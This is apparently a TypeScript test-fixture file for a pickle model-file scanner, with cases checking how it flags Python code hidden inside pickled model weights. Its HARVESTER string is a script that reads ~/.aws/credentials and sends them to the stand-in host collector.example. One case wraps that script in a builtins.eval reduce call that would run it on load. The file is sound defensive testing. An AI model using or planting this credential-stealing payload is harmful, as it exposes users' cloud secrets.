import { b, binunicode } from './pickle-bytes.js';
import type { UnseenCase } from './unseen-runner.js';

/** A protocol-2 dict of string pairs. */
const dict = (pairs: readonly [string, string][]): Buffer =>
  Buffer.concat([b('\x80\x02}('), ...pairs.flatMap(([k, v]) => [binunicode(k), binunicode(v)]), b('u.')]);

const HARVESTER = [
  'import os, json, urllib.request',
  'def harvest():',
  "    data = open(os.path.expanduser('~/.aws/credentials')).read()",
  "    urllib.request.urlopen('https://collector.example/v1', data.encode())",
  'harvest()',
].join('\n');
const STATE_DICT = dict([
  ['features.0.weight', '<Tensor shape=(64, 3, 7, 7)>'],
  ['classifier.bias', '<Tensor shape=(1000,)>'],
]);
const LOAD = 'pickle.load: a str is data (load_binunicode); nothing evals it';

/**
 * Source code kept as data in a pickle (modelaudit's "steganographic" shapes): inert under the loader, aimed at code
 * that evals it. A warning where nothing else is said of the pickle; never a second finding beside the call it feeds.
 */
export const CODE_TEXT_CASES: readonly UnseenCase[] = [
  {
    name: 'a second pickle stream after STOP holding a script as a dict value',
    loader: `${LOAD}; the second stream is read only by a second pickle.load`,
    files: { 'model.pkl': Buffer.concat([STATE_DICT, dict([['config_loader', HARVESTER]])]) },
    want: ['CPI133:warning'],
  },
  {
    name: 'one stream, the script base64-encoded as "tensor data"',
    loader: LOAD,
    files: {
      'model.pkl': dict([
        ['backbone.conv1.weight', '<Tensor shape=(64, 3, 7, 7)>'],
        ['serialized_tensor_data', Buffer.from(HARVESTER).toString('base64')],
      ]),
    },
    want: ['CPI133:warning'],
  },
  {
    name: 'control: long prose and a command to run in a model card string',
    loader: LOAD,
    files: {
      'model.pkl': dict([
        ['description', 'A ResNet-50 fine-tuned on ImageNet-1K; evaluate it with `python eval.py --split val`.'],
        ['license', 'Apache-2.0: see https://www.apache.org/licenses/LICENSE-2.0 for the terms of use.'],
      ]),
    },
    want: [],
  },
  {
    name: 'the code string is the argument of eval: only the call is reported',
    loader: 'pickle.load load_reduce: builtins.eval(<the string>)',
    files: { 'model.pkl': Buffer.concat([b('\x80\x02cbuiltins\neval\n'), binunicode(HARVESTER), b('\x85R.')]) },
    want: ['CPI001:error'],
  },
];
